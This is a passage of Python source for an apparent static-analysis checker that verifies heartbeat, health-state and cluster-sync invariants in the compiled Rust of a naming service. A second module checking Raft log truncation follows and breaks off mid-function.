        if not idx:
            continue

        def m_get(i, fr, tt, args):
            v = i.env.atom('GET', 'std::option::Option<x>')
            if v == 'None':
                return Adt('std::option::Option', 'None', [])
            return Adt('std::option::Option', 'Some', [Ref(obj=SymObj('inst'))], ['0'])

        def m_en(i, fr, tt, args):
            return BV.const(1, int(i.env.atom('EN', 'bool')))

        def m_id(i, fr, tt, args):
            return args[0]
        models = {'std::collections::HashMap::<K, V, S, A>::get': m_get, IM + 'is_enable_timeout': m_en, 'std::ops::Deref::deref': m_id,
                  '<std::sync::Arc<T, A> as std::ops::Deref>::deref': m_id}

        def mk():
            args = [Ref(obj=SymObj('self'))]
            for k in range(1, h.argc):
                args.append(BV.const(64, 1, True) if k in idx else Ref(obj=SymObj('key')))
            return args
        try:
            atoms, rows = enumerate_tables(fb, h, mk, domains={'i64': [0, 2]}, call_models=models)
        except (Undecided, Unsupported, Panic, NeedAtom, Exception):
            continue
        ck.analysed(h)
        en_ok = lm_ok = none_ok = bool(rows)
        for (asg, r, calls) in rows:
            if asg.get('GET') != 'Some':
                try:
                    if asg.get('GET') == 'None' and not bool(r.value()):
                        none_ok = False
                except Exception:
                    none_ok = False
                continue
            try:
                got = bool(r.value())
            except Exception:
                return (False, False, False)
            if asg.get('EN') is False and not got:
                en_ok = False
            if asg.get('EN') is True and asg.get('inst.last_modified_millis') == 2 and not got:
                lm_ok = False
            if asg.get('EN') is True and asg.get('inst.last_modified_millis') is None and not got:
                pass
        # both conditions must have been consulted at all
        names = [k for (k, ty) in atoms]
        if 'EN' not in names:
            en_ok = False
        if 'inst.last_modified_millis' not in names:
            lm_ok = False
        if 'GET' not in names:
            none_ok = False
        return (en_ok, lm_ok, none_ok)
    return (False, False, False)


def r13h(ck, fb):
    ck.rule('R13h', 'what a service expired in this round is announced: in NamingActor::time_check every way out of the per-service loop that is '
                    'reachable after Service::time_check ran for a service (the round\'s size budget) passes the push of that service\'s (removed, '
                    'marked-unhealthy) lists into change_list first; the lists are the only record of what was expired locally, the other nodes and '
                    'the subscribers learn it from time_check_notify')
    b = ck.body(NA + 'time_check', 'R13h')
    if not b:
        return
    tc = b.calls(re.escape(SV + 'time_check') + '$')
    ck.floor('R13h', 'Service::time_check call in NamingActor::time_check', len(tc), 1)
    pushes = [s0 for s0 in b.calls(r'Vec::<.*>::push$') if any(Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('Service::time_check')).op_tainted(a) for a in s0.args[1:])]
    ck.require(len(pushes) >= 1, 'R13h', 'time_check:queues-results', b.where(), 'the lists returned by Service::time_check are not queued for time_check_notify')
    for s0 in tc:
        ex = util.loop_early_exits(b, s0.bb) or []
        nxt = b.blocks[s0.bb]['t'].get('t')
        for (src, dst) in ex:
            if nxt is None or src not in cfg.reach_from(b, [nxt]):
                continue
            # can the exit edge be taken without having pushed?
            free = cfg.reach_from(b, [nxt], blocked_blocks={p0.bb for p0 in pushes})
            ck.require(src not in free, 'R13h', 'time_check:budget-exit-after-queue', b.where(src),
                       'the loop over services can be left after a service was expired but before its lists were pushed to change_list: the service '
                       'that crosses the round budget is expired here and nobody is told - non-owner nodes keep its instances healthy for ever')


def r13i(ck, fb):
    ck.rule('R13i', 'an unhealthy instance is always on the removal clock: Service::update_instance_healthy_invalid consumes the health time-out '
                    'entry of the instance; on every path on which the instance stays in the map it has been queued in unhealthy_timeout_set - also '
                    'when it was unhealthy already (registered with healthy=false, or taken over from a dead owner that had marked it). Nothing '
                    'else ever queues it for removal')
    b = ck.body(SV + 'update_instance_healthy_invalid', 'R13i')
    if not b:
        return
    adds = util.mut_calls_on_field(b, 'unhealthy_timeout_set', r'::add$')
    look = util.mut_calls_on_field(b, 'instances', r'HashMap::<K, V, S, A>::(get|get_mut|remove|remove_entry|get_key_value)$')
    ck.floor('R13i', 'lookups of the instance in update_instance_healthy_invalid', len(look), 1)
    absent = util.option_edges(b, look, 'None')
    ck.floor('R13i', 'not-found edges of the lookup', len(absent), 1)
    # a way from the entry to the return that neither finds the instance missing nor queues it
    free = cfg.reach_from(b, [0], blocked_blocks={a.bb for a in adds}, blocked_edges=set(absent))
    leak = [r for r in b.return_blocks() if r in free]
    ck.require(not leak, 'R13i', 'healthy_invalid:stays-implies-queued', b.where(leak[0]) if leak else b.where(),
               'the function can return for an instance that is in the map without having queued it in unhealthy_timeout_set: the already-unhealthy '
               'instance whose health entry just fired is never removed (e.g. the unhealthy instance of a dead owner after take-over)',
               '%d queue sites, every found-path passes one' % len(adds))


def r13j(ck, fb):
    ck.rule('R13j', 'a taken-over instance gets a full time-out from the take-over on: the copy a node holds of another node\'s instance is refreshed '
                    'only by the owner\'s 15 s beat batch, and a dead owner is detected after 15-18 s, so the age of the copy says nothing about the '
                    'client\'s heartbeats. In do_refresh_process_range the time handed to healthy_timeout_set.add derives from the current time, not '
                    'from the copy\'s last_modified_millis alone; otherwise a heart-beating instance is marked unhealthy (and can be removed) by the '
                    'first time_check after the take-over, and the verdict is broadcast')
    b = ck.body(SV + 'do_refresh_process_range', 'R13j')
    if not b:
        return
    n = 0
    for x in util.region(fb, b):
        now = Taint(x, call_src=lambda t: bool(re.search(r'now_millis(_i64)?$|now_second', (t.get('f') or {}).get('d', '') or '')))
        for s0 in util.mut_calls_on_field(x, 'healthy_timeout_set', r'::add$'):
            n += 1
            ck.analysed(x)
            fresh = len(s0.args) >= 2 and now.op_tainted(s0.args[1])
            if fresh:
                # the taint is flow-insensitive: when the time is read from a field of a local, the assignment that makes that field "now"
                # has to lie before the read (an arming placed in front of `instance.last_modified_millis = now` reads the mirror's age)
                d = cfg.strip_calls(x, cfg.describe_operand(x, s0.args[1]))
                if d['k'] == 'place' and d.get('fields') and d.get('pl') is not None:
                    from rn.facts import pl_local, pl_fields, op_place
                    L, F = pl_local(d['pl']), d['fields'][-1]
                    ws = [bb for (i, j, st) in x.stmts() for bb in [i]
                          if not isinstance(st.get('d'), int) and st.get('d') is not None and pl_local(st['d']) == L and pl_fields(st['d'])[-1:] == [F]
                          and st.get('rv') and any(now.op_tainted(y) for y in rv_operands(st['rv']))]
                    if ws and not any(cfg.dominates_blocks(x, {w}, s0.bb) for w in ws):
                        fresh = False
            ck.require(fresh, 'R13j', 'take-over:clock-starts-now', s0.where(),
                       'the clock of a taken-over instance is armed with the age of the mirror copy: 3 nodes, five HTTP instances beating every 5 s owned '
                       'by node 3; 17.5 s after node 3 is killed they are reported unhealthy on nodes 1 and 2', 'armed from the current time')
    ck.floor('R13j', 'take-over arming sites', n, 1)


def r13k(ck, fb):
    ck.rule('R13k', 'a heartbeat that changes what is listed is published like any change: Service::update_instance classifies an update that only '
                    'refreshes the time stamp as UpdateTime (no subscriber notification, no immediate cluster sync). That classification must be '
                    'conditional on the health flag being unchanged - the beat that brings an unhealthy instance back otherwise stays local for up to '
                    'a beat batch (15 s), while the change to unhealthy went out within half a second')
    b = ck.body(SV + 'update_instance', 'R13k')
    if not b:
        return
    from rn.facts import pl_fields
    hl = Taint(b, place_src=lambda p: pl_fields(p)[-1:] == ['healthy'])
    sites = []
    for (i, j, st) in b.stmts():
        rv = st.get('rv') or {}
        if rv.get('k') == 'agg' and rv.get('adt', '').endswith('UpdateInstanceType') and rv.get('variant') == 'UpdateTime':
            sites.append(i)
    if not ck.require(len(sites) >= 1, 'R13k', 'anchor:UpdateTime', b.where(), 'update_instance no longer classifies an update as UpdateTime'):
        return
    for i in sites:
        ok = False
        for a in cfg.guard_atoms(b, i):
            sw = a[-1]
            term = b.blocks[sw]['t'] if isinstance(sw, int) and sw < len(b.blocks) else None
            if term is not None and term.get('k') == 'switch' and hl.op_tainted(term['discr']):
                # a comparison of two health flags, not the mere test of one
                d = cfg.describe_operand(b, term['discr'])
                if d.get('k') in ('bin', 'call'):
                    ok = True
        ck.require(ok, 'R13k', 'update_instance:UpdateTime-only-when-health-unchanged', b.where(i),
                   'an update is classified UpdateTime without comparing the health flag of the stored instance with the incoming one: an instance went '
                   'unhealthy (published), its beats resume: nodes 2 and 3 still report it unhealthy 12.1 s later, subscribers are not told',
                   'health compared first')


def r13l(ck, fb):
    ck.rule('R13l', 'only a heartbeat restarts the clock of an instance this node owns: NamingActor::receive_snapshot applies the instances a peer '
                    'sends (start-up pulls at 1 s, 15 s, 45 s) through update_instance, which stamps them with the current time. A peer\'s copy of an '
                    'instance whose origin is this very node must be told apart (a test involving from_cluster and the node\'s own id before the '
                    'update), otherwise each pull counts as a heartbeat: instances that never beat, owned by a quickly restarted node, stay listed '
                    'for 80 s instead of 35 s')
    b = ck.body(NA + 'receive_snapshot', 'R13l')
    if not b:
        return
    from rn.facts import pl_fields
    ups = b.calls(re.escape(NA + 'update_instance') + '$')
    if not ck.require(len(ups) >= 1, 'R13l', 'anchor:update_instance', b.where(), 'receive_snapshot no longer applies instances through update_instance'):
        return
    fc = Taint(b, place_src=lambda p: pl_fields(p)[-1:] == ['from_cluster'])
    me = Taint(b, place_src=lambda p: pl_fields(p)[-1:] == ['node_id'])
    gates = [i for i, blk in enumerate(b.blocks) if i in cfg.live_blocks(b) and blk['t']['k'] == 'switch' and fc.op_tainted(blk['t']['discr']) and me.op_tainted(blk['t']['discr'])]
    nxt = [x.bb for x in b.calls(r'Iterator>::next$')]
    for s0 in ups:
        ok = False
        for g in gates:
            t = b.blocks[g]['t']
            outs = [tb for (_, tb) in t['targets']] + [t['otherwise']]
            # after the test the update can be skipped: the loop head is reachable from one of its edges without passing the update
            if s0.bb in cfg.reach_from(b, [g]) and any(any(x in cfg.reach_from(b, [tb], blocked_blocks=[s0.bb]) for x in nxt) and tb != s0.bb for tb in outs):
                ok = True
        ck.require(ok, 'R13l', 'receive_snapshot:own-instance-copy-is-not-a-heartbeat', s0.where(),
                   'every instance of a peer snapshot is applied with the current time, also the peer\'s copy of an instance this node owns',
                   'copies of own instances are told apart first')


def r13m(ck, fb, R='R13m'):
    ck.rule(R, 'the result of a persistent-host probe only touches persistent instances: in NamingActor::update_perpetual_health every Service method '
               'that flips `healthy` is either called under a test of the stored instance\'s `ephemeral` flag or tests it itself before the flip '
               '(sibling agreement: the "probe succeeded" method does, so the "probe failed" path must too). Otherwise a probe answer that arrives '
               'after the address was registered again as an ephemeral instance marks a heart-beating / gRPC-connected instance unhealthy; for a '
               'gRPC instance nothing but a new registration sets it healthy again')
    b = ck.body(NA + 'update_perpetual_health', R)
    if not b:
        return
    n = 0
    for s in b.sites:
        nm = s.resolved or s.callee or ''
        hb = fb.bodies.get(nm)
        if hb is None or hb.parent or not nm.startswith(SV):
            continue
        flips = [(bb, st) for x in util.region(fb, hb) for (o, f, bb, st) in x.field_writes() if f == 'healthy' and o.endswith('naming::model::Instance')]
        if not flips:
            continue
        n += 1
        at_site = any(a[0] == 'field' and a[1][-1:] == ['ephemeral'] for a in cfg.guard_atoms(b, s.bb))
        inside = all(any(a[0] == 'field' and a[1][-1:] == ['ephemeral'] for a in cfg.guard_atoms(hb, bb)) for (bb, st) in flips
                     if True) and all(bb in range(len(hb.blocks)) for (bb, st) in flips)
        # flips found in helpers of hb are judged in their own body
        inside = True
        for x in util.region(fb, hb):
            for (o, f, bb, st) in x.field_writes():
                if f == 'healthy' and o.endswith('naming::model::Instance'):
                    if not any(a[0] == 'field' and a[1][-1:] == ['ephemeral'] for a in cfg.guard_atoms(x, bb)):
                        inside = False
        ck.require(at_site or inside, R, 'update_perpetual_health:%s:persistent-only' % nm.split('::')[-1], s.where(),
                   'a probe result is applied through %s without a test of the instance\'s ephemeral flag: a late probe answer changes the health '
                   'of an instance that is no longer persistent (registered again over gRPC or switched to ephemeral and heart-beating)' % nm.split('::')[-1],
                   'guarded by ephemeral == false %s' % ('at the call' if at_site else 'inside'))
    ck.floor(R, 'health-flipping calls in update_perpetual_health', n, 2)


def r13n(ck, fb, R='R13n'):
    ck.rule(R, '"and then everywhere": what one time_check round decided for a service reaches the other nodes in full - in '
               'NamingActor::time_check_notify the removals are handed to time_check_sync_remove_info_to_cluster exactly when the remove list is not '
               'empty and the unhealthy transitions to time_check_sync_update_info_to_cluster exactly when the update list is not empty, each whatever '
               'the other list holds (truth table over the two emptiness tests, by walking the compiled function under each of the 4 assignments). '
               'A round that removes X and marks Y unhealthy otherwise leaves Y healthy on every other node until its removal arrives')
    b = ck.body(NA + 'time_check_notify', R)
    if not b:
        return
    names = {b.local_name(l): l for l in range(1, b.argc + 1)}
    if 'remove_list' not in names or 'update_list' not in names:
        ck.bad(R, 'time_check_notify:parameters', b.where(), 'time_check_notify no longer takes remove_list / update_list: the rule does not know this function')
        return
    inv = {names['remove_list']: 'rm_empty', names['update_list']: 'up_empty'}

    def classify(d, term):
        if d['k'] == 'call' and re.search(r'::is_empty$', cfg.callee_name(d['term']) or '') and d['term']['args']:
            o = cfg.describe_operand(b, d['term']['args'][0])
            if o['k'] == 'arg' and o['l'] in inv:
                return ('bool', inv[o['l']])
        return None
    from rn import walk
    rm = {s0.bb for s0 in b.calls(r'time_check_sync_remove_info_to_cluster$')}
    up = {s0.bb for s0 in b.calls(r'time_check_sync_update_info_to_cluster$')}
    ck.floor(R, 'cluster sync calls in time_check_notify', len(rm) + len(up), 2)
    for rm_empty in (True, False):
        for up_empty in (True, False):
            env = {'rm_empty': rm_empty, 'up_empty': up_empty}
            r = walk.walker(b, classify, env)
            for (what, sites, empty) in (('removals', rm, rm_empty), ('unhealthy transitions', up, up_empty)):
                may = bool(sites & r)
                esc = walk.escapes_under(b, classify, env, sites)
                must = may and not esc
                key = 'time_check_notify:%s:remove_list %s, update_list %s' % (what.split()[0], 'empty' if rm_empty else 'filled', 'empty' if up_empty else 'filled')
                if empty:
                    ck.require(not may, R, key, b.where(), 'an empty list of %s is sent to the other nodes' % what, 'nothing to send')
                else:
                    ck.require(must, R, key, b.where(),
                               'the %s of this round are not handed to the cluster sync on every path (reachable: %s, ways around it end at blocks %s): the other '
                               'nodes keep the old state of these instances' % (what, may, esc), 'sent on every path')


def r13o(ck, fb, R='R13o'):
    ck.rule(R, 'the heartbeat clock only speaks about instances it finds: in Service::time_check a fired entry whose instance is no longer in the map '
               '(deregistered meanwhile) is dropped - from the None edge of the lookup neither remove_instance / update_instance_healthy_invalid nor a push '
               'onto the reported lists is reached within that iteration (or, when the re-validation lives in a bool helper, the helper answers "skip" for an '
               'absent instance). Every reported key is broadcast as a removal with an empty client id, which the other nodes apply to WHATEVER lives at '
               'that address: a gRPC-connected instance that registered there on another node is removed by this node\'s stale entry')
    t = ck.body(SV + 'time_check', R)
    if not t:
        return
    nxt = [x.bb for x in t.calls(r'Iterator>::next$')]
    look = util.mut_calls_on_field(t, 'instances', r'(HashMap::<K, V, S, A>|BTreeMap::<K, V, A>)::(get|get_mut|contains_key)$')
    none_edges = util.option_edges(t, look, 'None')
    acts = {x.bb for x in t.calls(re.escape(SV) + r'(remove_instance|update_instance_healthy_invalid)$')}
    pushes = {x.bb for x in t.calls(r'Vec::<T, A>::push$')}
    ck.floor(R, 'actions + reports in time_check', len(acts) + len(pushes), 4)
    if none_edges:
        ck.floor(R, 'lookups with an absent-instance edge', len(none_edges), 2)
        for (s0, d0, lab0) in none_edges:
            r = cfg.reach_from(t, [d0], blocked_blocks=nxt)
            hit = sorted((acts | pushes) & r)
            which = 'removal' if ({y.bb for y in t.calls(re.escape(SV) + 'remove_instance$')} & r) else \
                ('unhealthy' if ({y.bb for y in t.calls(re.escape(SV) + 'update_instance_healthy_invalid$')} & r) else 'loop@%d' % sorted(e[0] for e in none_edges).index(s0))
            ck.require(not hit, R, 'time_check:absent-instance-not-reported:%s' % which,
                       t.where(hit[0]) if hit else t.where(s0),
                       'a fired time-out entry whose instance is not in the map any more still reaches the action / the reported list: the key is broadcast as a '
                       'removal (or an unhealthy transition) of an address this node knows nothing about', 'dropped')
    else:
        # helper form
        oks = []
        for callee, cutoff in ((SV + 'remove_instance', 'offline_time'), (SV + 'update_instance_healthy_invalid', 'healthy_time')):
            for s0 in t.calls(re.escape(callee) + '$'):
                oks.append(_stale_helper(ck, fb, t, s0, cutoff)[2])
        ck.require(bool(oks) and all(oks), R, 'time_check:absent-instance-not-reported:helper', t.where(),
                   'the re-validation helper does not answer "skip" for an absent instance (or no lookup of the instance was found in time_check at all)',
                   'helper skips an absent instance')


def r13p(ck, fb, R='R13p'):
    DN = 'rnacos::naming::cluster::instance_delay_notify::ClusterInstanceDelayNotifyActor::'
    ck.rule(R, 'a queued change supersedes the queued heartbeat copy of the same instance, whatever the two time stamps say: the "marked unhealthy" '
               'update carries the time of the LAST heartbeat, so it is never newer than the healthy copy that heartbeat queued; if that copy survives '
               'it is flushed after the change (beats go out every 15 s, changes every 500 ms) and the peers list the expired instance as healthy '
               'again. In delay_notify every path to the return drops the key from beat_instances_map; in delay_beat_notify a copy is queued only '
               'when no change is pending for the key')
    dly = ck.body(DN + 'delay_notify', R)
    if dly:
        rm = util.mut_calls_on_field(dly, 'beat_instances_map', r'HashMap::<K, V, S, A>::(remove|remove_entry|retain)$|OccupiedEntry::<.*>::remove', deep=1)
        ck.require(bool(rm) and cfg.must_pass_before_return(dly, 0, {s0.bb for s0 in rm}), R, 'delay_notify:drops-queued-beat', dly.where(),
                   'delay_notify can queue a change (update / unhealthy mark / removal) and keep the heartbeat copy queued for the same instance: the '
                   'older healthy copy is sent to the other nodes after the change and undoes it there - an instance whose heartbeats stopped is '
                   'listed as healthy again on every node but the responsible one', 'the queued heartbeat copy is dropped on every path')
    db = ck.body(DN + 'delay_beat_notify', R)
    if db:
        ins = util.mut_calls_on_field(db, 'beat_instances_map', r'HashMap::<K, V, S, A>::insert$|Entry::<.*>::(insert|insert_entry|or_insert)|VacantEntry::<.*>::insert', deep=1)
        ck.floor(R, 'heartbeat copies queued in delay_beat_notify', len(ins), 1)
        for s0 in ins:
            at = cfg.guard_atoms(db, s0.bb)
            pend = [c0.term for c0 in db.calls(r'::contains_key$') if util.recv_fields(db, c0)[-1:] == ['instances_map']]
            ok = any(a[0] == 'call' and a[2] is False and any(a[3] is t0 for t0 in pend) for a in at)
            ck.require(ok, R, 'delay_beat_notify:only-without-pending-change', s0.where(),
                       'a heartbeat copy is queued although a change for the same instance may be pending: the copy (healthy, older) is flushed after the change',
                       'queued only when instances_map has no entry for the key')


def r13q(ck, fb, R='R13q'):
    ck.rule(R, '"an instance whose heartbeats keep arriving is never marked unhealthy or removed" - the heartbeat has to reach the instance it is sent '
               'for: BeatRequest::convert_to_instance addresses the beat to the group the request names. With a non-empty `groupName` parameter and '
               'a beat JSON whose serviceName does not itself name a group (no "@@"), every path that answers Ok assigns the parameter to the '
               'instance\'s group_name - whether or not the JSON carries a (bare) service name; walked under both values of "the JSON has a name". '
               'Otherwise `beat={"serviceName":"foo"}&groupName=G1` keeps a phantom instance alive in DEFAULT_GROUP while the instance in G1 '
               'expires although its client beats')
    from rn import walk
    from rn.facts import pl_proj, pl_local, pl_fields
    b = ck.body('rnacos::openapi::naming::model::BeatRequest::convert_to_instance', R)
    if not b:
        return
    tg = Taint(b, place_src=lambda p: (not isinstance(p, int)) and pl_local(p) == 1 and pl_fields(p)[:1] == ['group_name'])
    tj = Taint(b, place_src=lambda p: (not isinstance(p, int)) and 'service_name' in pl_fields(p) and pl_local(p) != 1)
    sinks = {bb for (o, f, bb, st) in b.field_writes() if f == 'group_name' and o.endswith('naming::model::Instance') and
             any(tg.op_tainted(x) for x in rv_operands(st['rv']))}
    ck.floor(R, 'assignments of the request group to the instance', len(sinks), 1)
    errs = {i for (i, j, st) in b.aggregates(r'^std::result::Result$', 'Err')} | {s0.bb for s0 in b.calls(r'FromResidual<.*>>::from_residual$')}

    def classify(d, term):
        if d['k'] == 'discr':
            pd = cfg.describe_operand(b, {'cp': d['pl']})
            if pd['k'] == 'place' and pd['fields'][-1:] == ['group_name'] and pd['root']['k'] == 'arg' and pd['root']['l'] == 1:
                return ('variant', 'req_group')
        if d['k'] == 'call':
            nm = cfg.callee_name(d['term']) or ''
            args = d['term'].get('args') or []
            if nm.endswith('::is_empty') and args and tg.op_tainted(args[0]):
                return ('bool', 'req_group_empty')
            if re.search(r'::contains$', nm) and args and tj.op_tainted(args[0]):
                return ('bool', 'json_names_group')
            # the same test inside a closure: name.as_ref().map(|e| e.contains("@@")).unwrap_or(false) / is_some_and(..)
            if args and (tc.op_tainted(args[0]) or has_contains_closure(d['term'])) and any(tj.op_tainted(a) for a in args):
                return ('bool', 'json_names_group')
            if nm.endswith('Option::<T>::is_none') and args and tj.op_tainted(args[0]) and not tg.op_tainted(args[0]):
                return ('bool', 'json_name_absent')
            if nm.endswith('Option::<T>::is_some') and args and tj.op_tainted(args[0]) and not tg.op_tainted(args[0]):
                return ('bool', 'json_name_present')
        return None
    def has_contains_closure(term):
        return any(any(x.calls(r'::contains$') for x in util.region(fb, cb, 1)) for cb in util.closures_passed(fb, b, term))
    tc = Taint(b, call_src=has_contains_closure)
    for absent in (True, False):
        env = {'req_group': 'Some', 'req_group_empty': False, 'json_names_group': False, 'json_name_absent': absent, 'json_name_present': not absent}
        esc = walk.escapes_under(b, classify, env, sinks | errs)
        ck.require(not esc, R, 'convert_to_instance:groupName-applied:json-name-%s' % ('absent' if absent else 'bare'), b.where(esc[0]) if esc else b.where(),
                   'a heartbeat with a non-empty groupName parameter can be converted without that group being applied when the beat JSON %s: the beat '
                   'refreshes (or registers) an instance of another group and the instance it was sent for expires although its client keeps beating'
                   % ('has no serviceName' if absent else 'carries a bare serviceName'), 'the request group is applied on every Ok path')


def r13r(ck, fb, R='R13r'):
    ck.rule(R, 'a peer\'s copy of an instance this node owns is never taken for a heartbeat, whatever the two time stamps say: the copy\'s '
               'last_modified_millis is the time the PEER received the sync, which for a silent instance is always later than the owner\'s last '
               'event. In NamingActor::receive_snapshot the decision to skip such a copy (R13l) consults no last_modified_millis - neither in the '
               'function nor in the closures it passes: a "newer copy wins" refinement re-arms the clock of an instance whose heartbeats have '
               'stopped every time a snapshot arrives (the 15 s / 45 s pulls after a restart, a restarted peer\'s push), and it stays healthy')
    b = ck.body(NA + 'receive_snapshot', R)
    if not b:
        return
    reg = [b] + [c for c in fb.tree(NA + 'receive_snapshot')[1:]]
    ck.floor(R, 'bodies of receive_snapshot (function + closures)', len(reg), 1)
    hits = [(x, bb) for x in reg for (o, f, bb, st) in x.field_reads() if f == 'last_modified_millis']
    ck.require(not hits, R, 'receive_snapshot:own-copy-skip-ignores-time-stamps', (hits[0][0].where(hits[0][1]) if hits else b.where()),
               'receive_snapshot reads last_modified_millis: whether a peer\'s copy of an instance this node owns is applied depends on time stamps, and the '
               'copy of a silent instance always carries the newer one - it is applied like a heartbeat, the instance is healthy again and its clock '
               'restarts although no heartbeat arrived', 'no time stamp consulted')


def own_reset_walk(fb, env):
    """NamingActor::update_instance walked under an assignment of {range: 'Some'|'None', in_range: bool, from_grpc: bool, from_sync: bool}:
    -> (body, blocks that make the instance this node's own (from_cluster = 0), reachable set, returns reachable without passing them)"""
    from rn import walk
    from rn.facts import op_const
    b = fb.bodies.get(NA + 'update_instance')
    if b is None:
        return None
    names = {b.local_name(l): l for l in range(1, b.argc + 1)}

    def classify(d, term):
        if d['k'] == 'arg' and b.local_name(d['l']) == 'from_sync':
            return ('bool', 'from_sync')
        if d['k'] == 'discr':
            pd = cfg.describe_operand(b, {'cp': d['pl']})
            if pd['k'] == 'place' and pd['fields'][-1:] == ['current_range']:
                return ('variant', 'range')
        if d['k'] == 'call' and (cfg.callee_name(d['term']) or '').endswith('ProcessRange::is_range'):
            return ('bool', 'in_range')
        if d['k'] == 'place' and d['fields'][-1:] == ['from_grpc']:
            return ('bool', 'from_grpc')
        return None
    resets = set()
    for (o, f, bb, st) in b.field_writes():
        if f == 'from_cluster' and st['rv']['k'] == 'use':
            c = op_const(st['rv']['op'])
            if c is not None and str(c.get('v')) == '0':
                resets.add(bb)
    # the reset of an instance this node HOLDS and gets back from a peer (from_cluster == node_id, R15l) is another matter: not a claim by range
    def by_own_id(bb):
        for a in cfg.guard_atoms(b, bb):
            if a[0] == 'cmp':
                for side in (a[2], a[3]):
                    sd = cfg.strip_calls(b, side)
                    if sd['k'] == 'place' and sd['fields'][-1:] == ['node_id']:
                        return True
        return False
    resets = {bb for bb in resets if not by_own_id(bb)}
    cn = lambda t: 'in_range' if (cfg.callee_name(t) or '').endswith('ProcessRange::is_range') else None
    r, flags = walk.table_walk(b, classify, env, cn)
    esc = walk.escapes_under(b, classify, env, resets, (), cn)
    return b, resets, r, esc


def r13s(ck, fb, R='R13s'):
    ck.rule(R, 'an HTTP instance of a service in this node\'s range is this node\'s to supervise, however it arrived: NamingActor::update_instance makes it '
               'its own (from_cluster = 0, which is what is_enable_timeout() looks at) for a client request AND for an update that comes from a sync - a '
               'restarted owner gets its instances back from the peers\' snapshots marked from_cluster = its own id, and a client that died during the '
               'outage never sends the request that would claim them. Walked under (range assigned, key in range, not gRPC) for from_sync false and true: '
               'every path passes the reset')
    for fs in (False, True):
        w = own_reset_walk(fb, {'range': 'Some', 'in_range': True, 'from_grpc': False, 'from_sync': fs})
        if w is None:
            ck.body(NA + 'update_instance', R)
            return
        b, resets, r, esc = w
        ck.floor(R, 'assignments from_cluster = 0 in update_instance', len(resets), 1)
        ck.require(bool(resets & r) and not esc, R, 'update_instance:in-range-http-instance-is-claimed:from_sync=%s' % fs, b.where(esc[0]) if esc else b.where(),
                   'with the service in this node\'s range and the instance not gRPC, update_instance can finish without making the instance its own when '
                   'from_sync is %s: it keeps from_cluster != 0, is_enable_timeout() is false, and an instance whose client is gone is never marked '
                   'unhealthy or removed - on the responsible node, hence nowhere' % fs, 'claimed on every path')
