"""C03 Raft log: truncation removes exactly the suffix; log stays appendable."""
import re
from rn import cfg, util
from rn.flow import Taint, field_place_src
from rn.facts import rv_operands
from . import c02

RL = 'rnacos::raft::filestore::raftlog::'
LIM = RL + 'LogInnerManager::'
LM = RL + 'RaftLogManager::'


def run(ck, fb):
    ck.explanation = (
        'Decides necessary conditions of "delete-from-k removes exactly the suffix and the log stays appendable": (a) strip_log_to erases '
        'the removed data range (set_len to the new data cursor, or a zero fill whose length depends on the cursors) and zeroes the popped '
        'index bytes with a buffer sized by the popped width, on every success path; the popped width is computed from file-offset deltas; '
        '(b) strip_log_to rewinds every cursor field that write() advances; (c) dropping later log files is paired with saving the '
        'catalogue; (d) the index-equality guard of write() is present (next append at k accepted, k+1 refused); (e) the request is '
        'routed to every file whose range reaches k and acknowledged through the oneshot.')
    ck.undecided = 'Does not decide that entries below k are byte-identical afterwards, nor multi-file shapes after a restart by execution.'
    r03a(ck, fb)
    r03b(ck, fb)
    r03c(ck, fb)
    r03d(ck, fb)
    r03e(ck, fb)
    r03f(ck, fb)
    r03g(ck, fb)
    r03j(ck, fb)
    r03k(ck, fb)
    r03l(ck, fb)
    r03m(ck, fb)
    r03n(ck, fb)
    r03p(ck, fb)
    ck.borrow('rules.c20', {'R20e': 'R03q'}, 'a truncation finds its cut point by scanning records from the index entry: the scan must not stop where a read chunk ends exactly on a record boundary, or the cut lands too early (entries below k lost, append at k refused)')
    ck.borrow('rules.c02', {'R02a': 'R03h'}, 'the index-area rewind of strip_log_to sizes what write() stored')


def r03a(ck, fb):
    ck.rule('R03a', 'strip_log_to erases what it removes: data_file.set_len(new data_cursor) (or a cursor-sized zero fill) and an index '
                    'zero fill sized by the popped width are passed on every success path after the cursor rewind; '
                    'get_file_index_by_log_index sizes file-offset deltas')
    b = ck.main(LIM + 'strip_log_to', 'R03a')
    if not b:
        return
    # the sizeof rule (shared with R02a)
    g = ck.body(LIM + 'get_file_index_by_log_index', 'R03a')
    if g:
        for s in g.calls(r'protobuf_utils::inner_sizeof_varint$'):
            good = Taint(g, place_src=field_place_src('file_index'))
            bad = Taint(g, place_src=field_place_src('log_index'))
            ck.require(good.op_tainted(s.args[0]) and not bad.op_tainted(s.args[0]), 'R03a',
                       '%s:sizeof-arg' % g.name, s.where(),
                       'the popped index width is computed from a log-index delta, not from the stored file-offset delta')
    # data erase
    dc_writes = [(bb, st) for (o, f, bb, st) in b.field_writes() if f == 'data_cursor']
    ck.floor('R03a', 'data_cursor rewind in strip_log_to', len(dc_writes), 1)
    cur = Taint(b, place_src=field_place_src('data_cursor'))
    erasers = []
    for s in util.sites_on_field(b, r'tokio::fs::File::set_len$', 'data_file'):
        if cur.op_tainted(s.args[1]) and util.awaited(b, s):
            erasers.append(s)
    for s in util.sites_on_field(b, r'AsyncWriteExt::write_all$', 'data_file'):
        if _sized_zero_fill(b, s, cur):
            erasers.append(s)
    ok = bool(erasers) and bool(dc_writes)
    for (bb, st) in dc_writes:
        if not cfg.must_pass_before_return(b, bb, {s.bb for s in erasers}, returns=_ok_returns(b)):
            ok = False
    ck.require(ok, 'R03a', 'strip_log_to:data-erase', b.where(),
               'after rewinding data_cursor strip_log_to does not erase the removed records (no set_len(data_cursor) / cursor-sized zero '
               'fill on every success path): a re-append that is not longer than what it overwrites leaves the old records parseable, '
               'and they come back as entries after a reopen', 'erased by %s' % [s.callee.split('::')[-1] for s in erasers])
    # index erase (in strip_log_to itself or in a helper it calls with the popped width: extract-method keeps the rule)
    popped = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('get_file_index_by_log_index'))
    cands = [(b, popped)]
    for x in util.region(fb, b):
        if x is b or x.name == b.name or x.parent == b.name or (b.parent and x.name == b.parent):
            continue
        xm = x
        if fb.has(x.name):
            try:
                xm = fb.main(x.name)
            except Exception:
                xm = x
        # parameters of the helper that receive popped-width values at its call sites in strip_log_to
        srcs = set()
        for cs in b.calls(re.escape(x.name) + '$'):
            for k, a in enumerate(cs.args):
                if popped.op_tainted(a):
                    srcs.add(k + 1)
        if srcs:
            # async helper: its coroutine body reads the arguments as upvar fields of _1; taint those fields
